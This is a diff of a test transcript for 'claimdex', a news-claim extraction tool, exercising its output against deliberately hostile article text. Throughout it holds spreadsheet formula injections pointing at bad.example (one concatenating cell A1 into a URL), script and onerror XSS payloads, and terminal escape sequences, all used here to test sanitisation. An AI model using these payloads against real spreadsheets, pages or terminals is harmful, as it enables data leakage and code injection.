@@ -11,15 +11,15 @@ kept in the record, where offsets count them, and are made visible wherever they
   c10    unchecked        casualty.killed  at least 12
          At least 12 people were killed in Port Havel on Monday
          mayor (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c5     unchecked        casualty.missing  around 40 (35 to 45)
-         Some 40 people �derujni erew�, and �around 50� were missing
-         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-  c13    unchecked        casualty.missing  around 40 (35 to 45)
-         Some 40 people �derujni erew�, and �around 50� were missing
-         police� (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c6     unchecked        detention.arrested  60
+  c6     unchecked        quantity.people  60
          http://bad.example/?x="&A1,"more than 60 people were detained
          the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
+  c14    unchecked        quantity.people  60
+         http://bad.example/?x="&A1,"more than 60 people were detained
+         the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
+  c5     unchecked        quantity.people  around 40 (35 to 45)
+         Some 40 people �derujni erew�, and �around 50� were missing
+         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
 
   next: claimdex show c2   claimdex search 'kind:casualty verdict:unchecked'   claimdex stats
   claimdex: 1 article has no publication date, so relative dates in it ("on Monday") stay open
@@ -77,12 +77,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     5  quantity.distance  31 metres
        "owned^G and a bell ^G and a C1 CSI �31m"
        the article itself (no source named) · unattributed_number · worth 0.35, confidence 0.60, quantity.distance.plain
-    6  casualty.missing  around 40 (35 to 45)
+    6  quantity.people  around 40 (35 to 45)
        "Some 40 people �derujni erew�, and �around 50� were missing"
-       police� (reported speech) · worth 0.95, confidence 0.90, casualty.missing.passive
-    7  detention.arrested  60
+       police� (reported speech) · worth 0.83, confidence 0.60, quantity.people.plain
+    7  quantity.people  60
        "http://bad.example/?x="&A1,"more than 60 people were detained"
-       the article itself (no source named) · unattributed_number · worth 0.93, confidence 0.90, detention.arrested.passive
+       the article itself (no source named) · unattributed_number · worth 0.84, confidence 0.60, quantity.people.plain
     8  attribution.quote
        ""<script>alert(1)</script>,""
        mayor (direct quote) · worth 0.67, confidence 0.90, attribution.quote.direct
@@ -90,10 +90,10 @@ kept in the record, where offsets count them, and are made visible wherever they
        ""</script><img src=x onerror=alert(2)>""
        mayor (direct quote; named in an earlier sentence) · worth 0.36, confidence 0.60, attribution.quote.direct.carried
   $ claimdex search '*'
-  c14    unchecked        detention.arrested  60
+  c14    unchecked        quantity.people  60
          http://bad.example/?x="&A1,"more than 60 people were detained
          the article itself (no source named) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
-  c13    unchecked        casualty.missing  around 40 (35 to 45)
+  c13    unchecked        quantity.people  around 40 (35 to 45)
          Some 40 people �derujni erew�, and �around 50� were missing
          police� (reported speech) · a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
   c12    unchecked        quantity.distance  0 metres
@@ -114,14 +114,14 @@ kept in the record, where offsets count them, and are made visible wherever they
   c7     unchecked        attribution.quote
          "<script>alert(1)</script>,"
          mayor (direct quote) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions
-  c6     unchecked        detention.arrested  60
+  c6     unchecked        quantity.people  60
          http://bad.example/?x="&A1,"more than 60 people were detained
          the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
-  c5     unchecked        casualty.missing  around 40 (35 to 45)
+  c5     unchecked        quantity.people  around 40 (35 to 45)
          Some 40 people �derujni erew�, and �around 50� were missing
          police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
   $ claimdex show $(claimdex search --ids '*')
-  c14  detention.arrested  unchecked, new
+  c14  quantity.people  unchecked, new
 
     http://bad.example/?x="&A1,"more than 60 people were detained
 
@@ -133,12 +133,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.93, confidence 0.90, rule detention.arrested.passive
+    worth       0.84, confidence 0.60, rule quantity.people.plain
 
   history
     2031-05-20T12:00:00Z  ada        c14    claim: http://bad.example/?x="&A1,"more than 60 people were detained
 
-  c13  casualty.missing  unchecked, new
+  c13  quantity.people  unchecked, new
 
     Some 40 people �derujni erew�, and �around 50� were missing
 
@@ -149,7 +149,7 @@ kept in the record, where offsets count them, and are made visible wherever they
     said by     police� (reported speech)
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
-    worth       0.95, confidence 0.90, rule casualty.missing.passive
+    worth       0.83, confidence 0.60, rule quantity.people.plain
 
   history
     2031-05-20T12:00:00Z  ada        c13    claim: Some 40 people �derujni erew�, and �around 50� were missing
@@ -176,7 +176,7 @@ kept in the record, where offsets count them, and are made visible wherever they
     Rescuers ^[[2J^[[1;1H^[[31mfound 30 survivors^[[0m, the fire chief said.
 
     figure      30
-    who         survivors (civilian)
+    who         survivors (other)
     said by     fire chief (reported speech)
     article     a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
     mentions    1 in 1 origin
@@ -254,7 +254,7 @@ kept in the record, where offsets count them, and are made visible wherever they
     2031-05-20T12:00:00Z  ada        c7     claim: "<script>alert(1)</script>,"
     2031-05-20T12:00:00Z  ada        c7     mention: m15
 
-  c6  detention.arrested  unchecked, new
+  c6  quantity.people  unchecked, new
 
     http://bad.example/?x="&A1,"more than 60 people were detained
 
@@ -266,12 +266,12 @@ kept in the record, where offsets count them, and are made visible wherever they
     flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
     article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
     mentions    1 in 1 origin
-    worth       0.93, confidence 0.90, rule detention.arrested.passive
+    worth       0.84, confidence 0.60, rule quantity.people.plain
 
   history
     2031-05-20T12:00:00Z  ada        c6     claim: http://bad.example/?x="&A1,"more than 60 people were detained
 
-  c5  casualty.missing  unchecked, new
+  c5  quantity.people  unchecked, new
 
     Some 40 people �derujni erew�, and �around 50� were missing
 
@@ -282,7 +282,7 @@ kept in the record, where offsets count them, and are made visible wherever they
     said by     police� (reported speech)
     article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
     mentions    1 in 1 origin
-    worth       0.95, confidence 0.90, rule casualty.missing.passive
+    worth       0.83, confidence 0.60, rule quantity.people.plain
 
   history
     2031-05-20T12:00:00Z  ada        c5     claim: Some 40 people �derujni erew�, and �around 50� were missing
@@ -310,16 +310,16 @@ A spreadsheet gets words, not formulas.
   \x632,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,2031-03-10,2031-03-10,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,124,178,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x633,quantity.people,1H�[31mfound 30 survivors�[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x634,quantity.distance,1H�[31mfound 30 survivors�[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x635,casualty.missing,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x636,detention.arrested,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x635,quantity.people,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x636,quantity.people,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x637,attribution.quote,"""<script>alert(1)</script>,""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,600,628,2,2,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x638,attribution.quote,"""</script><img src=x onerror=alert(2)>""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,645,684,2,2,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x639,quantity.distance,[31mred[0m ]0,unchecked,new,,0m,0,0,0,exact,metre,,,,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,48,63,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x6310,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,124,178,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x6311,quantity.people,1H[31mfound 30 survivors[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
   \x6312,quantity.distance,1H[31mfound 30 survivors[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6313,casualty.missing,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
-  \x6314,detention.arrested,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6313,quantity.people,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
+  \x6314,quantity.people,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a2,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
 
 A page gets text, not markup.
 
